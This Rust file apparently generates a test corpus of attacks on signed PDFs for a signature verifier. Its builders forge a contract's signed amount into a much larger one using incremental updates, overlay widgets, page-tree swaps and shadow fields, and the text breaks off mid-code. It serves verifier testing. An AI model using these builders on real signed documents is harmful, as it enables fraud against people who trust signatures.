//! The attack corpus on signed PDFs, generated: a base document prepared the
//! way a shadow attacker prepares one (an unused XObject in the page
//! resources, a text form field whose value differs from what it shows, an
//! empty signature field over the amount, /Info, XMP /Metadata and form
//! resources), and one builder per attack that takes the *signed* file and
//! appends what the attack needs (Ruhr-Universität Bochum's classes, see
//! /work/shared/design/pdf.md "Attacks on signed PDFs").
//!
//! Every update is written here by hand (objects, then a classic
//! cross-reference table or a cross-reference stream, trailer with /Prev), so
//! that the variants a conforming writer would never make (no xref, no
//! %%EOF, a signature /Contents gap holding objects) are possible too.

#![allow(dead_code, clippy::unwrap_used, clippy::expect_used)]

use lopdf::xref::XrefType;
use lopdf::{Dictionary, Document, Object, ObjectId, Stream, StringFormat, Writer, dictionary};
use std::io::Write;
use std::path::{Path, PathBuf};

/// The amount the signer saw, drawn in page 1's content stream.
pub const AMOUNT: &str = "Amount payable: EUR 1,000.00";
/// The amount the attacker wants shown.
pub const FORGED: &str = "Amount payable: EUR 9,000,000.00";
/// Where the amount line is on page 1 (user space), a little larger than the text.
pub const AMOUNT_RECT: [f32; 4] = [66.0, 630.0, 426.0, 660.0];
/// The seal's top-left corner (mm from the page's top-left) in the signed base.
pub const SEAL_AT_MM: (f64, f64) = (110.0, 190.0);
/// A seal placed here (top-left, mm) covers the amount line.
pub const OVER_AMOUNT_MM: (f64, f64) = (20.0, 52.0);

fn text(s: &str) -> Object {
    Object::string_literal(s)
}

fn rect(r: [f32; 4]) -> Object {
    Object::Array(r.iter().map(|v| Object::Real(*v)).collect())
}

/// A one-page-of-interest A4 document (plus a second page) prepared for
/// shadow attacks; classic cross-reference table, streams uncompressed.
pub fn shadow_base_pdf() -> Vec<u8> {
    let mut doc = Document::with_version("1.7");
    let pages_id = doc.new_object_id();
    let page1_id = doc.new_object_id();
    let helv = doc.add_object(dictionary! {
        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica",
        "Encoding" => "WinAnsiEncoding",
    });
    let form = |fill: &str, label: &str| {
        Stream::new(
            dictionary! {
                "Type" => "XObject", "Subtype" => "Form",
                "BBox" => vec![0.into(), 0.into(), 220.into(), 40.into()],
                "Resources" => dictionary! { "Font" => dictionary! { "F1" => helv } },
            },
            format!("{fill} rg 0 0 220 40 re f BT /F1 14 Tf 1 1 1 rg 10 14 Td ({label}) Tj ET")
                .into_bytes(),
        )
    };
    // drawn by the page
    let logo = doc.add_object(form("0 0 0.6", "APPROVED: EUR 1,000.00"));
    // prepared, in the resources, never drawn
    let spare = doc.add_object(form("0.6 0 0", "APPROVED: EUR 9,000,000"));
    let resources = doc.add_object(dictionary! {
        "Font" => dictionary! { "F1" => helv },
        "XObject" => dictionary! { "Logo" => logo, "Spare" => spare },
    });
    let content = format!(
        "BT /F1 18 Tf 72 760 Td (Contract No. 2026-001) Tj ET\n\
BT /F1 12 Tf 72 710 Td (Both parties agree to the terms set out in this document.) Tj ET\n\
BT /F1 14 Tf 72 640 Td ({AMOUNT}) Tj ET\n\
q 1 0 0 1 72 560 cm /Logo Do Q\n\
BT /F1 12 Tf 72 500 Td (Please seal here:) Tj ET\n"
    );
    let c1 = doc.add_object(Stream::new(dictionary! {}, content.into_bytes()));
    // A text field over the amount whose value is the forged amount and whose
    // appearance is empty: invisible until a viewer regenerates appearances.
    let empty_ap = doc.add_object(Stream::new(
        dictionary! {
            "Type" => "XObject", "Subtype" => "Form",
            "BBox" => vec![0.into(), 0.into(), 360.into(), 30.into()],
        },
        Vec::new(),
    ));
    let amount_field = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Widget", "FT" => "Tx", "T" => text("Amount"),
        "V" => text(FORGED), "DA" => text("/Helv 14 Tf 0 g"), "Rect" => rect(AMOUNT_RECT),
        "F" => 4, "P" => page1_id, "MK" => dictionary! { "BG" => vec![1.into(), 1.into(), 1.into()] },
        "AP" => dictionary! { "N" => empty_ap },
    });
    // An empty signature field lying over the amount, no appearance.
    let witness = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Widget", "FT" => "Sig", "T" => text("Witness"),
        "Rect" => rect(AMOUNT_RECT), "F" => 4, "P" => page1_id,
    });
    doc.objects.insert(
        page1_id,
        Object::Dictionary(dictionary! {
            "Type" => "Page", "Parent" => pages_id, "Contents" => c1, "Resources" => resources,
            "Annots" => vec![amount_field.into(), witness.into()],
        }),
    );
    let c2 = doc.add_object(Stream::new(
        dictionary! {},
        b"BT /F1 12 Tf 72 760 Td (Page two.) Tj ET".to_vec(),
    ));
    let page2 = doc.add_object(dictionary! {
        "Type" => "Page", "Parent" => pages_id, "Contents" => c2, "Resources" => resources,
    });
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages", "Count" => 2, "Kids" => vec![page1_id.into(), page2.into()],
            "MediaBox" => vec![0.into(), 0.into(), Object::Real(595.276), Object::Real(841.89)],
        }),
    );
    let acroform = doc.add_object(dictionary! {
        "Fields" => vec![amount_field.into(), witness.into()],
        "DR" => dictionary! { "Font" => dictionary! { "Helv" => helv } },
        "DA" => text("/Helv 0 Tf 0 g"),
    });
    let xmp = b"<?xpacket begin=\"\" id=\"W5M0MpCehiHzreSzNTczkc9d\"?>\
<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">\
<rdf:Description rdf:about=\"\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title><rdf:Alt>\
<rdf:li xml:lang=\"x-default\">Contract 2026-001</rdf:li></rdf:Alt></dc:title></rdf:Description>\
</rdf:RDF></x:xmpmeta><?xpacket end=\"w\"?>";
    let metadata = doc.add_object(Stream::new(
        dictionary! { "Type" => "Metadata", "Subtype" => "XML" },
        xmp.to_vec(),
    ));
    let catalog = doc.add_object(dictionary! {
        "Type" => "Catalog", "Pages" => pages_id, "AcroForm" => acroform, "Metadata" => metadata,
    });
    let info = doc.add_object(dictionary! {
        "Title" => text("Contract 2026-001"), "Producer" => text("Yinzheng attack corpus"),
    });
    doc.trailer.set("Root", catalog);
    doc.trailer.set("Info", info);
    doc.reference_table.cross_reference_type = XrefType::CrossReferenceTable;
    let mut out = Vec::new();
    doc.save_to(&mut out).expect("saves");
    out
}

/// Where the parts of the prepared document are in a signed file.
#[derive(Clone, Debug)]
pub struct Layout {
    pub catalog: ObjectId,
    pub pages: ObjectId,
    pub page1: ObjectId,
    pub page2: ObjectId,
    pub contents: ObjectId,
    pub resources: ObjectId,
    pub helv: ObjectId,
    pub logo: ObjectId,
    pub spare: ObjectId,
    pub acroform: ObjectId,
    pub amount_field: ObjectId,
    pub witness: ObjectId,
    pub info: Option<ObjectId>,
    pub metadata: ObjectId,
    /// The first signature field with a value (widget merged), its /V and its /AP /N.
    pub seal_widget: ObjectId,
    pub seal_value: ObjectId,
    pub seal_ap: Option<ObjectId>,
}

fn r(d: &Dictionary, key: &str) -> ObjectId {
    d.get(key.as_bytes())
        .and_then(Object::as_reference)
        .unwrap_or_else(|_| panic!("/{key} is a reference"))
}

fn dict_at(doc: &Document, id: ObjectId) -> &Dictionary {
    match doc.get_object(id).expect("object") {
        Object::Dictionary(d) => d,
        Object::Stream(s) => &s.dict,
        o => panic!("{id:?} is not a dictionary: {o:?}"),
    }
}

impl Layout {
    pub fn find(doc: &Document) -> Layout {
        let catalog = r(&doc.trailer, "Root");
        let cat = dict_at(doc, catalog);
        let pages = r(cat, "Pages");
        let kids = dict_at(doc, pages)
            .get(b"Kids")
            .and_then(Object::as_array)
            .expect("kids");
        let page1 = kids[0].as_reference().unwrap();
        let page2 = kids[1].as_reference().unwrap();
        let p1 = dict_at(doc, page1);
        let resources = r(p1, "Resources");
        let res = dict_at(doc, resources);
        let xo = res.get(b"XObject").and_then(Object::as_dict).unwrap();
        let helv = res
            .get(b"Font")
            .and_then(Object::as_dict)
            .map(|f| r(f, "F1"))
            .unwrap();
        let acroform = r(cat, "AcroForm");
        let fields = dict_at(doc, acroform)
            .get(b"Fields")
            .and_then(Object::as_array)
            .unwrap();
        let named = |name: &str| {
            fields
                .iter()
                .filter_map(|f| f.as_reference().ok())
                .find(|id| {
                    dict_at(doc, *id)
                        .get(b"T")
                        .ok()
                        .and_then(|t| lopdf::decode_text_string(t).ok())
                        .is_some_and(|t| t == name)
                })
                .unwrap_or_else(|| panic!("field {name}"))
        };
        let seal_widget = fields
            .iter()
            .filter_map(|f| f.as_reference().ok())
            .find(|id| {
                let d = dict_at(doc, *id);
                d.get(b"FT").and_then(Object::as_name).ok() == Some(b"Sig".as_slice())
                    && d.has(b"V")
            })
            .expect("a signed signature field");
        let w = dict_at(doc, seal_widget);
        Layout {
            catalog,
            pages,
            page1,
            page2,
            contents: r(p1, "Contents"),
            resources,
            helv,
            logo: r(xo, "Logo"),
            spare: r(xo, "Spare"),
            acroform,
            amount_field: named("Amount"),
            witness: named("Witness"),
            info: doc.trailer.get(b"Info").and_then(Object::as_reference).ok(),
            metadata: r(cat, "Metadata"),
            seal_widget,
            seal_value: r(w, "V"),
            seal_ap: w
                .get(b"AP")
                .and_then(Object::as_dict)
                .ok()
                .and_then(|ap| ap.get(b"N").and_then(Object::as_reference).ok()),
        }
    }
}

/// A signed file to attack.
pub struct Signed {
    pub pdf: Vec<u8>,
    pub doc: Document,
    pub l: Layout,
    /// A scratch directory (for attacks made with peer tools).
    pub dir: PathBuf,
}

impl Signed {
    pub fn new(pdf: Vec<u8>, dir: &Path) -> Signed {
        let doc = Document::load_mem(&pdf).expect("the signed base parses");
        let l = Layout::find(&doc);
        Signed {
            pdf,
            doc,
            l,
            dir: dir.to_path_buf(),
        }
    }

    pub fn dict(&self, id: ObjectId) -> Dictionary {
        dict_at(&self.doc, id).clone()
    }

    /// The next free object number.
    pub fn next_id(&self) -> u32 {
        self.doc.max_id + 1
    }

    /// Page 1's content with the amount replaced.
    pub fn forged_content(&self) -> Vec<u8> {
        let s = self
            .doc
            .get_object(self.l.contents)
            .and_then(Object::as_stream)
            .unwrap();
        let plain = s
            .decompressed_content()
            .unwrap_or_else(|_| s.content.clone());
        let t = String::from_utf8_lossy(&plain).to_string();
        assert!(t.contains(AMOUNT), "page 1 draws the amount: {t}");
        t.replace(AMOUNT, FORGED).into_bytes()
    }

    pub fn forged_stream(&self) -> Object {
        Object::Stream(Stream::new(dictionary! {}, self.forged_content()))
    }

    /// A form XObject that paints white over the amount line and writes the forged amount.
    pub fn overlay_form(&self) -> Object {
        let [x0, y0, x1, y1] = AMOUNT_RECT;
        let (w, h) = (x1 - x0, y1 - y0);
        Object::Stream(Stream::new(
            dictionary! {
                "Type" => "XObject", "Subtype" => "Form",
                "BBox" => vec![0.into(), 0.into(), Object::Real(w), Object::Real(h)],
                "Resources" => dictionary! { "Font" => dictionary! { "F1" => self.l.helv } },
            },
            format!("1 1 1 rg 0 0 {w} {h} re f BT /F1 14 Tf 0 g 6 10 Td ({FORGED}) Tj ET")
                .into_bytes(),
        ))
    }

    /// Page 1 with `annot` appended to its /Annots.
    pub fn page1_with_annot(&self, annot: ObjectId) -> Object {
        let mut p = self.dict(self.l.page1);
        let mut annots = p
            .get(b"Annots")
            .and_then(Object::as_array)
            .cloned()
            .unwrap_or_default();
        annots.push(annot.into());
        p.set("Annots", annots);
        Object::Dictionary(p)
    }

    /// The AcroForm with `field` appended to its /Fields.
    pub fn acroform_with_field(&self, field: ObjectId) -> Object {
        let mut f = self.dict(self.l.acroform);
        let mut fields = f.get(b"Fields").and_then(Object::as_array).unwrap().clone();
        fields.push(field.into());
        f.set("Fields", fields);
        Object::Dictionary(f)
    }
}

/// Which cross-reference section an update ends with.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Xref {
    /// The kind the previous revision used.
    Same,
    Table,
    Stream,
    /// Objects appended, nothing else: no xref, trailer, startxref or %%EOF.
    None,
    /// A complete table update whose final `%%EOF` is missing.
    NoEof,
}

/// One incremental update.
pub struct Update {
    pub objects: Vec<(ObjectId, Object)>,
    /// Trailer entries set (over /Root, /Info, /ID of the previous trailer).
    pub trailer: Vec<(&'static str, Object)>,
    pub xref: Xref,
}

impl Update {
    pub fn objects(objects: Vec<(ObjectId, Object)>) -> Update {
        Update {
            objects,
            trailer: Vec::new(),
            xref: Xref::Same,
        }
    }
    pub fn xref(mut self, x: Xref) -> Update {
        self.xref = x;
        self
    }
    pub fn trailer(mut self, key: &'static str, v: Object) -> Update {
        self.trailer.push((key, v));
        self
    }
}

/// Offset named by the last `startxref` of `pdf`.
pub fn last_startxref(pdf: &[u8]) -> usize {
    let at = pdf
        .windows(9)
        .rposition(|w| w == b"startxref")
        .expect("startxref");
    let tail = String::from_utf8_lossy(&pdf[at + 9..]).to_string();
    tail.split_whitespace()
        .next()
        .and_then(|n| n.parse().ok())
        .expect("startxref offset")
}

fn write_obj(out: &mut Vec<u8>, id: ObjectId, obj: &Object) {
    writeln!(out, "{} {} obj", id.0, id.1).unwrap();
    Writer::write_object(out, obj).unwrap();
    out.extend_from_slice(b"\nendobj\n");
}

/// `pdf` with `u` appended.
pub fn append(pdf: &[u8], u: Update) -> Vec<u8> {
    let prev = Document::load_mem(pdf).expect("the previous revision parses");
    let prev_xref = last_startxref(pdf);
    let kind = match u.xref {
        Xref::Same if pdf[prev_xref..].starts_with(b"xref") => Xref::Table,
        Xref::Same => Xref::Stream,
        k => k,
    };
    let mut out = pdf.to_vec();
    if !out.ends_with(b"\n") {
        out.push(b'\n');
    }
    let mut offsets: Vec<(ObjectId, usize)> = Vec::new();
    for (id, obj) in &u.objects {
        offsets.push((*id, out.len()));
        write_obj(&mut out, *id, obj);
    }
    if kind == Xref::None {
        return out;
    }
    let mut trailer = Dictionary::new();
    for k in ["Root", "Info", "ID"] {
        if let Ok(v) = prev.trailer.get(k.as_bytes()) {
            trailer.set(k, v.clone());
        }
    }
    for (k, v) in &u.trailer {
        if *v == Object::Null {
            trailer.remove(k.as_bytes());
        } else {
            trailer.set(*k, v.clone());
        }
    }
    let prev_size = prev
        .trailer
        .get(b"Size")
        .and_then(Object::as_i64)
        .unwrap_or(0) as u32;
    let max_id = u
        .objects
        .iter()
        .map(|(id, _)| id.0)
        .chain([prev.max_id, prev_size.saturating_sub(1)])
        .max()
        .unwrap();
    trailer.set("Prev", prev_xref as i64);
    offsets.sort();
    let xref_at = out.len();
    match kind {
        Xref::Table | Xref::NoEof => {
            trailer.set("Size", i64::from(max_id) + 1);
            out.extend_from_slice(b"xref\n0 1\n0000000000 65535 f\r\n");
            for (id, off) in &offsets {
                write!(out, "{} 1\n{:010} {:05} n\r\n", id.0, off, id.1).unwrap();
            }
            out.extend_from_slice(b"trailer\n");
            Writer::write_object(&mut out, &Object::Dictionary(trailer)).unwrap();
            write!(out, "\nstartxref\n{xref_at}\n").unwrap();
            if kind == Xref::Table {
                out.extend_from_slice(b"%%EOF\n");
            }
        }
        Xref::Stream => {
            let xs = (max_id + 1, 0);
            offsets.push((xs, xref_at));
            let mut data = Vec::new();
            let mut index = Vec::new();
            for (id, off) in &offsets {
                index.push(Object::Integer(id.0.into()));
                index.push(Object::Integer(1));
                data.push(1u8);
                data.extend_from_slice(&(*off as u32).to_be_bytes());
                data.extend_from_slice(&id.1.to_be_bytes());
            }
            trailer.set("Type", "XRef");
            trailer.set("Size", i64::from(xs.0) + 1);
            trailer.set(
                "W",
                vec![Object::Integer(1), Object::Integer(4), Object::Integer(2)],
            );
            trailer.set("Index", index);
            write_obj(&mut out, xs, &Object::Stream(Stream::new(trailer, data)));
            write!(out, "startxref\n{xref_at}\n%%EOF\n").unwrap();
        }
        Xref::Same | Xref::None => unreachable!(),
    }
    out
}

/// Which signed file an attack starts from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Base {
    /// Our seal on the prepared document, classic xref table.
    Sealed,
    /// Our seal on the prepared document rewritten by qpdf with object streams
    /// and cross-reference streams.
    SealedXrefStream,
    /// Certified by pyHanko with DocMDP P=2 (form filling and signing allowed).
    CertifiedP2,
    /// Certified by pyHanko with DocMDP P=3 (annotations allowed too).
    CertifiedP3,
}

/// The attack classes.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Class {
    Isa,
    Exemption,
    Shadow,
    AcroForm,
    UsfSwa,
    Certification,
}

impl std::fmt::Display for Class {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            Class::Isa => "1 incremental saving",
            Class::Exemption => "2 exemption abuse",
            Class::Shadow => "3 shadow",
            Class::AcroForm => "4 acroform/catalogue/trailer",
            Class::UsfSwa => "5 USF/SWA",
            Class::Certification => "6 certification",
        })
    }
}

/// An attacked file and the objects a verifier's report should name (any one
/// of them), or why no object can be named.
pub struct Built {
    pub pdf: Vec<u8>,
    pub targets: Result<Vec<ObjectId>, &'static str>,
}

/// One attack.
pub struct Attack {
    pub name: &'static str,
    pub class: Class,
    pub base: Base,
    pub what: &'static str,
    /// Ok when the attack changes what page 1 shows; Err(why not) otherwise.
    pub visible: Result<(), &'static str>,
    /// Why qpdf --check may warn (the attack itself is malformed in that
    /// way); qpdf must still read the file. None: no warnings allowed.
    pub qpdf_warns: Option<&'static str>,
    /// Why pyHanko may call this file VALID although we refuse it (None:
    /// pyHanko must refuse it too).
    pub pyhanko_lenient: Option<&'static str>,
    pub build: fn(&Signed) -> Built,
}

fn objs(pdf: Vec<u8>, targets: Vec<ObjectId>) -> Built {
    Built {
        pdf,
        targets: Ok(targets),
    }
}

const NOT_ON_PAGE: &str = "catalogue/form-level change: pdftoppm draws page 1 the same; the \
danger is what a reader does with it (runs an action, shows XFA instead of the page, trusts a \
replaced form)";

const LENIENT_NO_EOF: &str = "pyHanko 0.38 reads the trailing update (no %%EOF) but counts no \
revision for it, so no difference analysis runs, and its bottom line ignores the coverage it \
reports ('does not cover the entire file', 'some modifications may be illegitimate') and says \
VALID; poppler shows the forged amount. We refuse any byte after the signed revision that is not \
a revision we can explain (a pyHanko weakness, worth reporting upstream)";
const LENIENT_NEED_APPEARANCES: &str = "pyHanko accepts /NeedAppearances in the form dictionary \
('signature maintenance'); with a prepared field whose /V differs from its empty appearance, it \
makes viewers draw a value the signer never saw, so we refuse it";
const LENIENT_ACROFORM_REPLACED: &str = "pyHanko's catalogue rule lets /AcroForm point at a new \
form dictionary holding the same fields ('signature maintenance'); this one also sets \
/NeedAppearances (see acroform-need-appearances), and in general a replaced form is not explained \
by a signature, so we refuse it";
const LENIENT_FILL: &str = "pyHanko accepts form filling after an approval signature \
(FORM_FILLING); filling a prepared field lying over signed content replaces what the reader sees \
(shadow 'replace via overlay'), so a seal refuses any fill it does not explain";
const LENIENT_NEW_SIG_FIELD: &str = "pyHanko accepts a new empty signature field (signature \
fields may be added for later signers); its widget's appearance paints over signed content, so we \
refuse appearances on new unsigned fields";

fn new_widget_sig(s: &Signed, overlay: ObjectId, v: Option<Object>, name: &str) -> Object {
    let mut w = dictionary! {
        "Type" => "Annot", "Subtype" => "Widget", "FT" => "Sig", "T" => text(name),
        "Rect" => rect(AMOUNT_RECT), "F" => 4, "P" => s.l.page1,
        "AP" => dictionary! { "N" => overlay },
    };
    if let Some(v) = v {
        w.set("V", v);
    }
    Object::Dictionary(w)
}

fn overlay_annot(s: &Signed, overlay: ObjectId) -> Object {
    Object::Dictionary(dictionary! {
        "Type" => "Annot", "Subtype" => "FreeText", "Rect" => rect(AMOUNT_RECT), "F" => 4,
        "P" => s.l.page1, "Contents" => text(FORGED), "DA" => text("/Helv 14 Tf 0 g"),
        "AP" => dictionary! { "N" => overlay },
    })
}

/// A new page 1 (drawing the forged content) and its content stream, as new objects.
fn new_page1(
    s: &Signed,
    page_id: ObjectId,
    content_id: ObjectId,
    parent: ObjectId,
) -> Vec<(ObjectId, Object)> {
    let mut p = s.dict(s.l.page1);
    p.set("Contents", content_id);
    p.set("Parent", parent);
    vec![
        (content_id, s.forged_stream()),
        (page_id, Object::Dictionary(p)),
    ]
}

fn pages_with_kid(s: &Signed, kid: ObjectId) -> Object {
    let mut p = s.dict(s.l.pages);
    p.set("Kids", vec![kid.into(), s.l.page2.into()]);
    Object::Dictionary(p)
}

fn sig_value_with(s: &Signed, f: impl Fn(&mut Dictionary)) -> Object {
    let mut v = s.dict(s.l.seal_value);
    f(&mut v);
    Object::Dictionary(v)
}

/// Every attack of the corpus.
pub fn corpus() -> Vec<Attack> {
    vec![
        // ---- 1. Incremental Saving Attack ----
        Attack {
            name: "isa-content",
            class: Class::Isa,
            base: Base::Sealed,
            what: "page 1 content stream rewritten (xref table)",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.contents, s.forged_stream())]),
                );
                objs(pdf, vec![s.l.contents])
            },
        },
        Attack {
            name: "isa-content-xrefstream",
            class: Class::Isa,
            base: Base::SealedXrefStream,
            what: "page 1 content stream rewritten (object streams, xref stream update)",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.contents, s.forged_stream())]),
                );
                objs(pdf, vec![s.l.contents])
            },
        },
        Attack {
            name: "isa-content-stream-after-table",
            class: Class::Isa,
            base: Base::Sealed,
            what: "page 1 content stream rewritten in an xref-stream update after a table",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.contents, s.forged_stream())]).xref(Xref::Stream),
                );
                objs(pdf, vec![s.l.contents])
            },
        },
        Attack {
            name: "isa-pages-repointed",
            class: Class::Isa,
            base: Base::Sealed,
            what: "catalogue /Pages re-pointed at a new page tree with a new page 1",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let n = s.next_id();
                let (page, content, pages) = ((n, 0), (n + 1, 0), (n + 2, 0));
                let mut o = new_page1(s, page, content, pages);
                o.push((pages, pages_with_kid(s, page)));
                let mut cat = s.dict(s.l.catalog);
                cat.set("Pages", pages);
                o.push((s.l.catalog, Object::Dictionary(cat)));
                objs(append(&s.pdf, Update::objects(o)), vec![s.l.catalog])
            },
        },
        Attack {
            name: "isa-kids",
            class: Class::Isa,
            base: Base::Sealed,
            what: "page tree /Kids: page 1 swapped for a new page",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let n = s.next_id();
                let (page, content) = ((n, 0), (n + 1, 0));
                let mut o = new_page1(s, page, content, s.l.pages);
                o.push((s.l.pages, pages_with_kid(s, page)));
                objs(append(&s.pdf, Update::objects(o)), vec![s.l.pages])
            },
        },
        Attack {
            name: "isa-seal-picture",
            class: Class::Isa,
            base: Base::Sealed,
            what: "the seal widget's /AP /N stream replaced (another picture)",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let ap = s.l.seal_ap.expect("the seal has an appearance");
                let mut d = s.dict(ap);
                d.remove(b"Filter");
                d.remove(b"DecodeParms");
                let bbox = d.get(b"BBox").and_then(Object::as_array).unwrap().clone();
                let num = |o: &Object| o.as_float().unwrap_or(0.0);
                let (w, h) = (num(&bbox[2]) - num(&bbox[0]), num(&bbox[3]) - num(&bbox[1]));
                let content = format!(
                    "0 0.6 0 rg {} {} {w} {h} re f",
                    num(&bbox[0]),
                    num(&bbox[1])
                );
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(
                        ap,
                        Object::Stream(Stream::new(d, content.into_bytes())),
                    )]),
                );
                objs(pdf, vec![ap])
            },
        },
        Attack {
            name: "isa-no-xref",
            class: Class::Isa,
            base: Base::Sealed,
            what: "forged content object appended after %%EOF with no xref, trailer or \
                   startxref (viewers rebuild the xref and take the last definition)",
            visible: Ok(()),
            qpdf_warns: Some(
                "no cross-reference section: qpdf, like every viewer, rebuilds the xref",
            ),
            pyhanko_lenient: None,
            build: |s| {
                let mut content = s.forged_content();
                // push the old startxref out of the tail readers search for it
                // (poppler looks further back than the 1024 bytes of the
                // specification: 64 KiB is not enough, 70 000 bytes are)
                content.extend_from_slice(format!("\n%{}\n", "-".repeat(70_000)).as_bytes());
                let obj = Object::Stream(Stream::new(dictionary! {}, content));
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.contents, obj)]).xref(Xref::None),
                );
                Built {
                    pdf,
                    targets: Err("no revision to compare: the appended bytes are reported as such"),
                }
            },
        },
        Attack {
            name: "isa-no-eof",
            class: Class::Isa,
            base: Base::Sealed,
            what: "complete update (objects, xref, trailer, startxref) without the final %%EOF",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: Some(LENIENT_NO_EOF),
            build: |s| {
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.contents, s.forged_stream())]).xref(Xref::NoEof),
                );
                Built {
                    pdf,
                    targets: Err(
                        "not a revision (no %%EOF): reported as bytes after the last %%EOF",
                    ),
                }
            },
        },
        // ---- 2. Exemption abuses ----
        Attack {
            name: "dss-lists-content",
            class: Class::Exemption,
            base: Base::Sealed,
            what: "new /DSS whose /Certs array lists page 1's content stream, rewritten in the same update",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let dss = (s.next_id(), 0);
                let mut cat = s.dict(s.l.catalog);
                cat.set("DSS", dss);
                let o = vec![
                    (s.l.catalog, Object::Dictionary(cat)),
                    (
                        dss,
                        Object::Dictionary(
                            dictionary! { "Type" => "DSS", "Certs" => vec![s.l.contents.into()] },
                        ),
                    ),
                    (s.l.contents, s.forged_stream()),
                ];
                objs(append(&s.pdf, Update::objects(o)), vec![s.l.contents])
            },
        },
        Attack {
            name: "dss-points-at-content",
            class: Class::Exemption,
            base: Base::Sealed,
            what: "new /DSS with an entry referring directly to page 1's content stream, rewritten in the same update",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let dss = (s.next_id(), 0);
                let mut cat = s.dict(s.l.catalog);
                cat.set("DSS", dss);
                let o = vec![
                    (s.l.catalog, Object::Dictionary(cat)),
                    (
                        dss,
                        Object::Dictionary(
                            dictionary! { "Type" => "DSS", "OCSPs" => s.l.contents },
                        ),
                    ),
                    (s.l.contents, s.forged_stream()),
                ];
                objs(append(&s.pdf, Update::objects(o)), vec![s.l.contents])
            },
        },
        Attack {
            name: "content-typed-xref",
            class: Class::Exemption,
            base: Base::Sealed,
            what: "page 1 content stream rewritten with /Type /XRef in its dictionary",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let st = Stream::new(dictionary! { "Type" => "XRef" }, s.forged_content());
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.contents, Object::Stream(st))]),
                );
                objs(pdf, vec![s.l.contents])
            },
        },
        Attack {
            name: "content-typed-objstm",
            class: Class::Exemption,
            base: Base::Sealed,
            what: "page 1 content stream rewritten with /Type /ObjStm in its dictionary",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let st = Stream::new(
                    dictionary! { "Type" => "ObjStm", "N" => 0, "First" => 0 },
                    s.forged_content(),
                );
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.contents, Object::Stream(st))]),
                );
                objs(pdf, vec![s.l.contents])
            },
        },
        Attack {
            name: "sig-widget-overlay-no-v",
            class: Class::Exemption,
            base: Base::Sealed,
            what: "annotation marked /FT /Sig (no /V) added to page 1, appearance over the amount",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let n = s.next_id();
                let (ov, w) = ((n, 0), (n + 1, 0));
                let o = vec![
                    (ov, s.overlay_form()),
                    (w, new_widget_sig(s, ov, None, "Overlay")),
                    (s.l.page1, s.page1_with_annot(w)),
                ];
                objs(append(&s.pdf, Update::objects(o)), vec![s.l.page1, w, ov])
            },
        },
        Attack {
            name: "sig-widget-overlay-bogus-v",
            class: Class::Exemption,
            base: Base::Sealed,
            what: "annotation marked /FT /Sig whose /V is the first seal's signature, appearance over the amount",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let n = s.next_id();
                let (ov, w) = ((n, 0), (n + 1, 0));
                let o = vec![
                    (ov, s.overlay_form()),
                    (
                        w,
                        new_widget_sig(s, ov, Some(s.l.seal_value.into()), "Overlay"),
                    ),
                    (s.l.page1, s.page1_with_annot(w)),
                ];
                objs(append(&s.pdf, Update::objects(o)), vec![s.l.page1, w, ov])
            },
        },
        Attack {
            name: "new-empty-sig-field",
            class: Class::Exemption,
            base: Base::Sealed,
            what: "signature field without /V added after signing (AcroForm and /Annots), appearance over the amount",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: Some(LENIENT_NEW_SIG_FIELD),
            build: |s| {
                let n = s.next_id();
                let (ov, w) = ((n, 0), (n + 1, 0));
                let o = vec![
                    (ov, s.overlay_form()),
                    (w, new_widget_sig(s, ov, None, "Approval2")),
                    (s.l.page1, s.page1_with_annot(w)),
                    (s.l.acroform, s.acroform_with_field(w)),
                ];
                objs(
                    append(&s.pdf, Update::objects(o)),
                    vec![s.l.page1, s.l.acroform, w, ov],
                )
            },
        },
        // ---- 3. Shadow attacks ----
        Attack {
            name: "shadow-info-at-content",
            class: Class::Shadow,
            base: Base::Sealed,
            what: "update 1: trailer /Info re-pointed at page 1's content stream; update 2: that stream rewritten",
            visible: Ok(()),
            qpdf_warns: Some(
                "/Info names a stream (that is the attack): qpdf warns it is not a dictionary",
            ),
            pyhanko_lenient: None,
            build: |s| {
                let a = append(
                    &s.pdf,
